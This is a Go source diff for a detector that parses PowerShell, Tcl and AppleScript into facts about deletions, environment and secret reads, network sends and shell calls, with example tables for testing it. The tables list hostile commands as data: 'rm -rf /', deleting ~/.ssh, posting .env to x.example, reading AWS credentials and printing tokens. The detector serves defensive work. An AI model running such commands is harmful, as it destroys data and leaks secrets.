@@ -23,15 +23,33 @@ type psWord struct {
 func powershell(src string, out *Facts, depth int) {
 	for _, stmt := range psStatements(src) {
 		segs := psPipeline(stmt)
+		to := psPipeSink(segs)
 		for i, seg := range segs {
 			words := psWords(seg)
 			if len(words) == 0 {
 				continue
 			}
-			shown := i == len(segs)-1
-			psCommand(seg, words, shown, out, depth)
+			psCommand(seg, words, i == len(segs)-1, to, out, depth)
 		}
 	}
+}
+
+// psPipeSink is where a pipeline's output goes: shown, unless its last command writes it to
+// a file, sends it, or drops it.
+func psPipeSink(segs []string) Sink {
+	last := psWords(segs[len(segs)-1])
+	if len(last) == 0 {
+		return Shown
+	}
+	switch n := strings.ToLower(last[0].s); {
+	case n == "out-null":
+		return Kept
+	case psKind(n) == "write" || psKind(n) == "append":
+		return Saved
+	case psKind(n) == "send":
+		return Sent
+	}
+	return Shown
 }
 
 // psStatements splits on newlines and semicolons outside quotes, braces and parentheses.
@@ -117,6 +135,7 @@ func psPipeline(stmt string) []string {
 // psWords splits a command into words.
 func psWords(seg string) []psWord {
 	var out []psWord
+	var b strings.Builder
 	i := 0
 	for i < len(seg) {
 		c := seg[i]
@@ -126,42 +145,47 @@ func psWords(seg string) []psWord {
 		}
 		var w psWord
 		w.bare = true
+		b.Reset()
 		for i < len(seg) && seg[i] != ' ' && seg[i] != '\t' {
 			switch seg[i] {
 			case '\'':
 				end := psSkipQuote(seg, i)
-				w.s += strings.ReplaceAll(seg[i+1:min(end, len(seg))], "''", "'")
+				b.WriteString(strings.ReplaceAll(seg[i+1:min(end, len(seg))], "''", "'"))
 				w.bare = false
 				i = end + 1
 			case '"':
 				end := psSkipQuote(seg, i)
 				s, dyn, vars := psExpand(seg[i+1 : min(end, len(seg))])
-				w.s += s
+				b.WriteString(s)
 				w.dyn = w.dyn || dyn
 				w.vars = append(w.vars, vars...)
 				w.bare = false
 				i = end + 1
 			case '$':
 				s, dyn, vars, n := psVar(seg[i:])
-				w.s += s
+				b.WriteString(s)
 				w.dyn = w.dyn || dyn
 				w.vars = append(w.vars, vars...)
 				i += n
 			case '`':
 				if i+1 < len(seg) {
-					w.s += string(seg[i+1])
+					b.WriteByte(seg[i+1])
 				}
 				i += 2
 			case '(', '{', '[':
 				end := matchClose(seg, i, seg[i], closer(seg[i]))
-				w.s += seg[i:min(end+1, len(seg))]
+				b.WriteString(seg[i:min(end+1, len(seg))])
 				i = end + 1
 			default:
-				w.s += string(seg[i])
+				b.WriteByte(seg[i])
 				i++
 			}
 		}
+		w.s = b.String()
 		out = append(out, w)
+		if len(out) > 4096 {
+			break
+		}
 	}
 	return out
 }
@@ -265,24 +289,33 @@ func psKind(name string) string {
 	return ""
 }
 
-// psCommand maps one command of a pipeline to facts.
-func psCommand(seg string, words []psWord, shown bool, out *Facts, depth int) {
+// psCommand maps one command of a pipeline to facts; sink is where the pipeline's output goes.
+func psCommand(seg string, words []psWord, last bool, sink Sink, out *Facts, depth int) {
 	name := words[0]
 	args := words[1:]
 	kind := psKind(name.s)
-	if name.s == "" || !name.bare && kind == "" {
+	if name.s == "" || !name.bare && kind == "" || strings.HasPrefix(name.s, "$") || strings.HasPrefix(name.s, "[") || strings.HasPrefix(name.s, "(") {
 		// an expression statement ("...", $env:X, [Environment]::...): its value is shown
-		psExpression(seg, shown, out)
-		return
-	}
-	if strings.HasPrefix(name.s, "$") || strings.HasPrefix(name.s, "[") || strings.HasPrefix(name.s, "(") {
-		psExpression(seg, shown, out)
+		psExpression(seg, sink, out)
 		return
 	}
 	flags, pos := psParams(args)
-	sink := Shown
-	if !shown {
-		sink = Kept
+	// a command in parentheses runs first; what it reads goes where its value does
+	for i, a := range args {
+		if a.bare && strings.HasPrefix(a.s, "(") && strings.HasSuffix(a.s, ")") && depth < maxDepth {
+			to := Kept
+			if i > 0 && strings.EqualFold(args[i-1].s, "-body") {
+				to = Sent
+			}
+			var sub Facts
+			powershell(a.s[1:len(a.s)-1], &sub, depth+1)
+			for _, f := range sub.List {
+				if (f.Kind == Read || f.Kind == Env || f.Kind == Var) && f.To != Kept {
+					f.To = to
+				}
+				out.add(f)
+			}
+		}
 	}
 	switch kind {
 	case "delete":
@@ -378,6 +411,7 @@ func psCommand(seg string, words []psWord, shown bool, out *Facts, depth int) {
 			out.add(Fact{Kind: Shell, Text: psLine(args), Dyn: args[0].dyn, Call: "&"})
 		}
 	case "cmdlet":
+		_ = last
 	default:
 		// a native program: its command line as the shell reads it
 		out.add(Fact{Kind: Shell, Text: psLine(words), Dyn: name.dyn, Call: "native"})
@@ -462,11 +496,7 @@ func flags2(flags map[string]bool, args []psWord, names ...string) []psWord {
 }
 
 // psExpression is a statement that is a value: what it holds is shown.
-func psExpression(seg string, shown bool, out *Facts) {
-	to := Shown
-	if !shown {
-		to = Kept
-	}
+func psExpression(seg string, to Sink, out *Facts) {
 	l := strings.ToLower(seg)
 	if strings.Contains(l, "getenvironmentvariables") {
 		out.add(Fact{Kind: Env, To: to, Call: "[Environment]::GetEnvironmentVariables"})
@@ -500,29 +530,42 @@ func DecodeUTF16(b64 string) (string, bool) {
 
 // ---- AppleScript
 
-// applescript finds `do shell script EXPR`: EXPR is string literals and values joined by &.
+// applescript finds `do shell script EXPR` (EXPR is string literals and values joined by &)
+// and `system attribute "NAME"` outside strings and comments.
 func applescript(src string, out *Facts) {
 	low := strings.ToLower(src)
-	for i := 0; i < len(low); {
-		j := strings.Index(low[i:], "do shell script")
-		if j < 0 {
-			break
-		}
-		i += j + len("do shell script")
-		text, dyn := asExpr(src[i:])
-		if strings.TrimSpace(text) != "" {
-			out.add(Fact{Kind: Shell, Text: text, Dyn: dyn, Call: "do shell script"})
-		}
-	}
-	for i := 0; i < len(low); {
-		j := strings.Index(low[i:], "system attribute")
-		if j < 0 {
-			break
-		}
-		i += j + len("system attribute")
-		text, dyn := asExpr(src[i:])
-		if !dyn && text != "" {
-			out.add(Fact{Kind: Var, Text: strings.Trim(text, "'"), To: Shown, Call: "system attribute"})
+	for i := 0; i < len(low); i++ {
+		switch {
+		case low[i] == '"':
+			for i++; i < len(low) && low[i] != '"'; i++ {
+				if low[i] == '\\' {
+					i++
+				}
+			}
+		case strings.HasPrefix(low[i:], "--") || low[i] == '#':
+			for i < len(low) && low[i] != '\n' {
+				i++
+			}
+		case strings.HasPrefix(low[i:], "(*"):
+			if j := strings.Index(low[i:], "*)"); j >= 0 {
+				i += j + 1
+			} else {
+				i = len(low)
+			}
+		case strings.HasPrefix(low[i:], "do shell script"):
+			i += len("do shell script")
+			text, dyn := asExpr(src[i:])
+			if strings.TrimSpace(text) != "" {
+				out.add(Fact{Kind: Shell, Text: text, Dyn: dyn, Call: "do shell script"})
+			}
+			i--
+		case strings.HasPrefix(low[i:], "system attribute"):
+			i += len("system attribute")
+			text, dyn := asExpr(src[i:])
+			if !dyn && text != "" {
+				out.add(Fact{Kind: Var, Text: text, To: Shown, Call: "system attribute"})
+			}
+			i--
 		}
 	}
 }
@@ -599,6 +642,14 @@ func tcl(src string, out *Facts, depth int) {
 		}
 		name := words[0].s
 		args := words[1:]
+		if tclScripts(name) && depth < maxDepth {
+			// the braced words of control commands are scripts
+			for _, a := range args {
+				if a.braced {
+					tcl(a.s, out, depth+1)
+				}
+			}
+		}
 		switch name {
 		case "exec", "spawn", "::exec":
 			for len(args) > 0 && strings.HasPrefix(args[0].s, "-") && !args[0].dyn {
@@ -665,6 +716,16 @@ func tcl(src string, out *Facts, depth int) {
 			}
 		}
 	}
+}
+
+// tclScripts reports a command whose braced arguments are scripts it runs.
+func tclScripts(name string) bool {
+	switch name {
+	case "catch", "if", "elseif", "else", "while", "for", "foreach", "proc", "uplevel", "after", "time", "try",
+		"on", "trap", "finally", "namespace", "switch", "expect", "expect_after", "expect_before", "interact", "then":
+		return true
+	}
+	return false
 }
 
 func tclBase(s string) string {
@@ -778,10 +839,11 @@ func tclCommands(src string) []string {
 
 // tclWord is a Tcl word after substitution.
 type tclWord struct {
-	s    string
-	dyn  bool
-	env  bool
-	vars []string
+	s      string
+	dyn    bool
+	env    bool
+	braced bool
+	vars   []string
 }
 
 // tclWords splits a command into words: {braced} text as it is, "quoted" and bare words with
@@ -800,6 +862,7 @@ func tclWords(cmd string, out *Facts, depth int) []tclWord {
 		case '{':
 			end := matchClose(cmd, i, '{', '}')
 			w.s = cmd[i+1 : min(end, len(cmd))]
+			w.braced = true
 			i = end + 1
 		case '"':
 			j := i + 1
@@ -895,3 +958,71 @@ func tclSubst(s string, out *Facts, depth int) tclWord {
 	w.s = b.String()
 	return w
 }
+
+// The command languages' examples, as the tables' are written: "CODE => FACT", "CODE !> FACT".
+var (
+	psExamples = [...]string{
+		`Remove-Item -Recurse -Force /srv/app => delete-r /srv/app`,
+		`Remove-Item -Path $HOME/.ssh -Recurse => delete-r ~/.ssh`,
+		`ri -r -fo /var/www => delete-r /var/www`,
+		`Remove-Item ./build/out.txt => delete ./build/out.txt`,
+		`Remove-Item ./build/out.txt !> delete-r ./build/out.txt`,
+		`rm -rf / => shell rm -rf /`,
+		`Get-ChildItem env: => env:show`,
+		`gci Env: | Format-Table => env:show`,
+		`dir env: | Out-File env.txt => env:file`,
+		`ls Env:\ | Out-Null !> env:show`,
+		`Get-ChildItem -Path Env: => env:show`,
+		`Get-Item env:GITHUB_TOKEN => var:show GITHUB_TOKEN`,
+		`$env:NPM_TOKEN => var:show NPM_TOKEN`,
+		`Write-Output "token=$env:AWS_SECRET_ACCESS_KEY" => var:show AWS_SECRET_ACCESS_KEY`,
+		`[Environment]::GetEnvironmentVariables() => env:show`,
+		`$x = $env:HOME !> var:show HOME`,
+		`Get-Content .env => read:show .env`,
+		`gc ~/.aws/credentials | Select-String key => read:show ~/.aws/credentials`,
+		`Set-Content -Path /etc/hosts -Value x => write /etc/hosts`,
+		`Add-Content $HOME/.bashrc "alias x=y" => write+ ~/.bashrc`,
+		`Copy-Item -Recurse src /srv/app => write-r /srv/app`,
+		`Move-Item .git /tmp/g => delete-r:move .git`,
+		`Invoke-WebRequest -Uri https://x.example/c -Method Post -Body (Get-Content .env -Raw) => send:http https://x.example/c`,
+		`Invoke-WebRequest -Uri https://x.example/c -Method Post -Body (Get-Content .env -Raw) => read:send .env`,
+		`irm https://example.com/install.ps1 !> send:http https://example.com/install.ps1`,
+		`iex "rm -rf ~" => shell rm -rf ~`,
+		`Invoke-Expression $payload => eval ${_code_value}`,
+		`Start-Process rm -ArgumentList "-rf","/srv" => shell rm -rf /srv`,
+		`& git push --force => shell git push --force`,
+		`Set-Location /; Remove-Item etc -Recurse => chdir /`,
+		`Write-Host "Remove-Item -Recurse /" !> delete-r /`,
+		`# Remove-Item -Recurse / !> delete-r /`,
+		`Get-ChildItem ./src !> env:show`,
+	}
+	tclExamples = [...]string{
+		`exec rm -rf /var/www => shell rm -rf /var/www`,
+		`exec rm -rf $env(HOME) => shell rm -rf ~`,
+		`exec sh -c {rm -rf ~} => shell sh -c 'rm -rf ~'`,
+		`set d /srv; exec rm -rf $d => shell rm -rf "${_code_value}"`,
+		`catch {exec rm -rf /opt} => shell rm -rf /opt`,
+		`file delete -force /srv/data => delete-r /srv/data`,
+		`file delete a.txt => delete a.txt`,
+		`file delete a.txt !> delete-r a.txt`,
+		`file rename .git /tmp/g => delete-r:move .git`,
+		`spawn bash; send "rm -rf ~\r"; expect eof => shell rm -rf ~`,
+		`spawn ssh host; expect "$ "; send "git push -f\r" => shell git push -f`,
+		`spawn passwd; send "hunter2\r" !> shell hunter2`,
+		`puts [array get env] => env:show`,
+		`parray env => env:show`,
+		`puts $env(GITHUB_TOKEN) => var:show GITHUB_TOKEN`,
+		`set f [open "|rm -rf /tmp/x"] => shell rm -rf /tmp/x`,
+		`set f [open /etc/hosts w] => write /etc/hosts`,
+		`puts "exec rm -rf /" !> shell rm -rf /`,
+		`# exec rm -rf / !> shell rm -rf /`,
+	}
+	asExamples = [...]string{
+		`do shell script "rm -rf ~/Documents" => shell rm -rf ~/Documents`,
+		`do shell script "rm -rf " & quoted form of p => shell rm -rf "${_code_value}"`,
+		`do shell script "launchctl unload x" with administrator privileges => shell launchctl unload x`,
+		`set h to system attribute "GITHUB_TOKEN" => var:show GITHUB_TOKEN`,
+		`display dialog "do shell script \"rm -rf /\"" !> shell rm -rf /`,
+		`-- do shell script "rm -rf /" !> shell rm -rf /`,
+	}
+)
